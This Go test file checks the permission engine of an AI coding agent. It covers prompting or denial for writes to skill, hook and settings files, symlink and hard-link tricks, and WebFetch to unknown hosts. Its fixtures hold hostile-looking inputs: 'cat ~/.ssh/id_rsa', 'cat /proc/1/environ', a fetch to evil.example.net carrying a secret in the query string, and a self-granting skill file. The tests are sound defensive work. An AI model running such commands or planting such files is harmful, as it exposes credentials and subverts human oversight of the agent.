package permission

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tandem-agent/tandem/internal/tool"
)

// Issue 23, high 3: every place tandem loads instructions, settings,
// skills, commands, agents, hooks or plugins from asks before a write in
// every mode, denies in dontAsk and explore, and is never offered or
// covered by "allow always" (a session grant of Edit or Write does not
// reach it).
func TestHostileWritesToLoadedPlaces(t *testing.T) {
	work, home, cfgDir := t.TempDir(), t.TempDir(), t.TempDir()
	paths := []string{
		".claude/skills/x/SKILL.md", ".claude/commands/go.md", ".claude/agents/a.md", ".agents/skills/x/SKILL.md",
		".tandem/skills/x/SKILL.md", ".tandem/commands/c.md", ".claude/plugins/p/plugin.json", ".claude-plugin/plugin.json",
		".claude/hooks/h.sh", ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".tandem/config.json",
		"AGENTS.md", "CLAUDE.md", "CLAUDE.local.md", "sub/dir/AGENTS.md", "sub/.claude/skills/y/SKILL.md",
		filepath.Join(home, ".claude", "skills", "x", "SKILL.md"), filepath.Join(home, ".agents", "skills", "x", "SKILL.md"),
		filepath.Join(home, ".claude", "CLAUDE.md"), filepath.Join(home, ".claude", "settings.json"),
		filepath.Join(cfgDir, "config.json"), filepath.Join(cfgDir, "skills", "s", "SKILL.md"), filepath.Join(cfgDir, "AGENTS.md"),
	}
	// A link inside the workspace into a protected place is judged by
	// where it leads.
	if err := os.MkdirAll(filepath.Join(work, ".claude", "skills"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(work, ".claude", "skills"), filepath.Join(work, "innocent")); err != nil {
		t.Fatal(err)
	}
	paths = append(paths, "innocent/x/SKILL.md")
	notebook := tool.PathField("notebook_path", true)
	modes := map[Mode]string{Explore: "D", Normal: "Q", AcceptEdits: "Q", Trust: "Q", AskEdits: "Q", DontAsk: "D"}
	for mode, want := range modes {
		for _, grant := range [][]Rule{nil, mustRules(t, ActionAllow, "Edit", "Write", "Edit(**)", "Edit(/**)", "Write(//**)")} {
			a := &recordingAsker{}
			e := NewEngine(EngineOptions{Mode: mode, WorkDir: work, HomeDir: home, ConfigDir: cfgDir, Asker: a, FlagRules: grant,
				Tools: withBuiltins(func(name string) (tool.FileAccessor, bool) { return notebook, name == "NotebookEdit" })})
			for _, p := range paths {
				for _, call := range []struct {
					tool string
					in   map[string]any
				}{
					{"Write", map[string]any{"file_path": p, "content": "---\nallowed-tools: Bash\n---\n"}},
					{"Edit", map[string]any{"file_path": p, "old_string": "a", "new_string": "b"}},
					{"MultiEdit", map[string]any{"file_path": p, "edits": []any{}}},
					{"NotebookEdit", map[string]any{"notebook_path": p}},
					// encoding/json matches keys in any case: so does the check.
					{"Write", map[string]any{"FILE_PATH": p, "content": "x"}},
				} {
					got, d := verdictOf(t, e, a, call.tool, call.in)
					if got != want {
						t.Errorf("%s %s in %s (grants %v): got %s, want %s (%s: %s)", call.tool, p, mode, grant, got, want, d.Rule, d.Message)
					}
					if got == "Q" && len(a.asked[len(a.asked)-1].Rules) > 0 {
						t.Errorf("%s %s in %s offers allow always: %v", call.tool, p, mode, a.asked[len(a.asked)-1].Rules)
					}
					if got == "D" && mode == DontAsk && strings.Contains(d.Message, "--allowedTools") {
						t.Errorf("%s %s in dontAsk names a flag that would not approve it: %s", call.tool, p, d.Message)
					}
				}
			}
		}
	}
	// The same key twice, in two spellings, is not guessed at.
	a := &recordingAsker{}
	e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Trust, WorkDir: work, HomeDir: home, Asker: a})
	raw := `{"file_path":"` + filepath.Join(work, ".claude", "skills", "x", "SKILL.md") + `","File_Path":"ok.txt","content":"x"}`
	before := len(a.asked)
	if d, err := e.Check(context.Background(), Request{Tool: "Write", Input: json.RawMessage(raw)}); err != nil || len(a.asked) == before {
		t.Errorf("a Write naming file_path twice was not asked: %+v %v", d, err)
	}
}

// Issue 23, low: a Bash write to a file with another hard link asks in
// acceptEdits and trust: the other name may lie outside the workspace.
func TestHardLinkedWriteTargetAsks(t *testing.T) {
	work, outside, home := t.TempDir(), t.TempDir(), t.TempDir()
	target := filepath.Join(outside, "victim")
	writeFile(t, target, "x")
	if err := os.Link(target, filepath.Join(work, "link")); err != nil {
		t.Skip("no hard links here:", err)
	}
	writeFile(t, filepath.Join(work, "plain"), "x")
	for _, mode := range []Mode{AcceptEdits, Trust} {
		e, a := tableEngine(t, mode, work, home)
		for cmd, want := range map[string]string{"echo x > link": "Q", "cp plain link": "Q", "tee link": "Q", "echo x > plain": "A"} {
			if got, d := verdictOf(t, e, a, "Bash", map[string]string{"command": cmd}); got != want {
				t.Errorf("%q in %s: got %s, want %s (%s)", cmd, mode, got, want, d.Message)
			}
		}
	}
}

// Issue 23, high 4: explore mode asks before a WebFetch to a host no rule
// allows, offering that domain; an allowed domain fetches.
func TestExploreAsksPerHostForWebFetch(t *testing.T) {
	a := &recordingAsker{}
	e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Explore, WorkDir: t.TempDir(), Asker: a,
		FlagRules: mustRules(t, ActionAllow, "WebFetch(domain:docs.example.com)")})
	if got, _ := verdictOf(t, e, a, "WebFetch", map[string]string{"url": "https://evil.example.net/?k=secret"}); got != "Q" {
		t.Fatalf("explore fetch from a new host: got %s, want Q", got)
	}
	if q := a.asked[len(a.asked)-1]; len(q.Rules) != 1 || q.Rules[0].String() != "WebFetch(domain:evil.example.net)" {
		t.Errorf("allow always would save %v, want WebFetch(domain:evil.example.net)", q.Rules)
	}
	if got, d := verdictOf(t, e, a, "WebFetch", map[string]string{"url": "https://docs.example.com/x"}); got != "A" {
		t.Errorf("allowed domain: got %s (%s)", got, d.Message)
	}
	if got, _ := verdictOf(t, e, a, "WebFetch", map[string]string{"url": "not a url"}); got != "D" {
		t.Errorf("a URL without a host: got %s, want D", got)
	}
	n := NewEngine(EngineOptions{Tools: builtinFiles, Mode: Normal, WorkDir: t.TempDir(), Asker: a})
	if got, _ := verdictOf(t, n, a, "WebFetch", map[string]string{"url": "https://example.com"}); got != "A" {
		t.Errorf("normal mode fetch: got %s, want A", got)
	}
}

// Issue 23, low: a denial's hint names only what approves exactly that
// call: no --allowedTools for a protected path, no trust mode when it is
// already the mode, no Bash(cat:*) for a sensitive read.
func TestDenialHintsNameOnlyWhatApproves(t *testing.T) {
	work, home := t.TempDir(), t.TempDir()
	cases := []struct {
		mode     Mode
		tool     string
		in       map[string]string
		mustNot  []string
		must     []string
		approves bool // the named flag, when given, approves the call
	}{
		{Normal, "Write", map[string]string{"file_path": ".claude/skills/x/SKILL.md", "content": "x"},
			[]string{"--allowedTools", "--permission-mode trust"}, []string{"no rule or mode approves it"}, false},
		{Trust, "Bash", map[string]string{"command": "echo x > .claude/commands/c.md"},
			[]string{"--allowedTools", "--permission-mode trust"}, []string{"no rule or mode approves it"}, false},
		{Trust, "Bash", map[string]string{"command": "cat ~/.ssh/id_rsa"},
			[]string{"cat:*", "--permission-mode trust"}, []string{"--allowedTools 'Bash(cat ~/.ssh/id_rsa)'"}, true},
		{Normal, "Bash", map[string]string{"command": "cat /proc/1/environ"},
			[]string{"cat:*", "--permission-mode trust"}, []string{"--allowedTools 'Bash(cat /proc/1/environ)'"}, true},
		{Normal, "Bash", map[string]string{"command": "rm x"}, nil, []string{"--allowedTools 'Bash(rm x)'", "--permission-mode trust"}, true},
	}
	for _, c := range cases {
		e := NewEngine(EngineOptions{Tools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home})
		d := check(t, e, c.tool, c.in)
		if d.Behavior != Deny {
			t.Errorf("%v in %s: %+v", c.in, c.mode, d)
			continue
		}
		for _, s := range c.mustNot {
			if strings.Contains(d.Message, s) {
				t.Errorf("%v in %s: the hint names %q: %s", c.in, c.mode, s, d.Message)
			}
		}
		for _, s := range c.must {
			if !strings.Contains(d.Message, s) {
				t.Errorf("%v in %s: the hint lacks %q: %s", c.in, c.mode, s, d.Message)
			}
		}
		if c.approves {
			rules, err := ParseToolFlags([]string{flagValue(t, d.Message)}, ActionAllow)
			if err != nil {
				t.Fatal(err)
			}
			again := NewEngine(EngineOptions{Tools: builtinFiles, Mode: c.mode, WorkDir: work, HomeDir: home, FlagRules: rules})
			if d := check(t, again, c.tool, c.in); d.Behavior != Allow {
				t.Errorf("%v in %s: the named flag does not approve it: %+v", c.in, c.mode, d)
			}
		}
	}
}
